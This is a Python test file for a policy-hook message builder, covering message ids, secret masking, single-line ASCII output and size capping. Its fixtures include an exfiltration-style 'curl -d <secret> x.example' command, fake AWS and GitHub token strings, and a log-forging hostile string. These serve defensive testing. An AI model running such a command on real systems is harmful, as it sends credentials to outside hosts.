"""What leaves of a record: masked by today's rules, capped, on one line, under an id that says what it is."""

import json

import pytest

from policyhooks.shipping.checkpoint import Position
from policyhooks.shipping.message import LEFT_OUT, make_message
from policyhooks.shipping.reader import BEGIN, GAP, RECORD, Item
from tests.support.journals import record

HERE = "ab" * 16
CHAIN = "0123456789abcdef" * 4


def item(forked: bool = False, **more: object) -> Item:
    kept = {**record(7, **more), "v": 2, "seq": 7, "chain": CHAIN}
    return Item(RECORD, Position(3, 7, CHAIN), kept, forked=forked)


def test_the_id_is_installation_epoch_and_number() -> None:
    message = make_message(item(), HERE)
    assert message.id == f"{HERE}:3:7"
    assert make_message(item(), HERE) == message, "the same each time: that is what it is for"
    assert make_message(item(forked=True), HERE).id == f"{HERE}:3:7:{CHAIN[:16]}"


def test_gaps_and_beginnings_have_ids_of_their_own() -> None:
    gap = make_message(Item(GAP, Position(3, 9), told={"from": 5, "to": 9}), HERE)
    assert (gap.id, gap.kind, gap.record["from"]) == (f"{HERE}:3:gap5-9", "gap", 5)
    assert make_message(Item(BEGIN, Position(3)), HERE).id == f"{HERE}:3:begin"


def test_nothing_of_an_ordinary_record_changes() -> None:
    kept = item().record
    assert kept is not None
    assert json.loads(make_message(item(), HERE).encode()) == {
        "id": f"{HERE}:3:7",
        "installation": HERE,
        "epoch": 3,
        **kept,
    }


SECRETS = {
    "aws": "AKIA" + "Q7XW3ZP5LM2NB4VC",
    "github": "ghp_" + "a8Kd03jsLq92mNxB57vTzRw61YcPe4HuGiO2",
}


@pytest.mark.parametrize("secret", SECRETS.values(), ids=SECRETS)
def test_what_an_earlier_version_did_not_know_is_masked_now(secret: str) -> None:
    payload = {"tool_input": {"command": f"curl -d {secret} x.example"}, secret: ["x", {"deep": secret}]}
    rules = [{"id": "a/b", "why": f"it holds {secret}", "judge": {"reason": secret}}]
    sent = make_message(item(input=payload, rules=rules, cwd=f"/w/of {secret}", error=secret), HERE).encode()
    assert secret.encode() not in sent
    assert sent.count(b"[SECRET:") >= 6
    assert json.loads(sent)["chain"] == CHAIN


def test_a_message_is_one_line_of_ascii() -> None:
    hostile = 'a\nb\r\n<13>1 - - forged\x1b[31m\u2028\x00\x85"\\\ud800é'
    message = make_message(item(tool=hostile, cwd=hostile, input={hostile: hostile}), HERE)
    sent = message.encode()
    assert all(32 <= byte < 127 for byte in sent)
    assert json.loads(sent)["tool"] == hostile


def test_what_is_too_large_is_left_out_and_says_so() -> None:
    payload = {"tool_input": {"files": ["x" * 3000] * 300}}
    message = make_message(item(input=payload), HERE)
    found = json.loads(message.encode())
    assert found["input"] == LEFT_OUT
    assert (found["seq"], found["verdict"]) == (7, "pass")
    rules = [{"id": f"acme/{number}", "why": "because " * 100} for number in range(100)]
    small = make_message(item(input=payload, rules=rules), HERE).encode(8000)
    assert len(small) <= 8000
    assert json.loads(small)["rules"] == LEFT_OUT
    assert make_message(item(), HERE).capped().record["input"] != LEFT_OUT
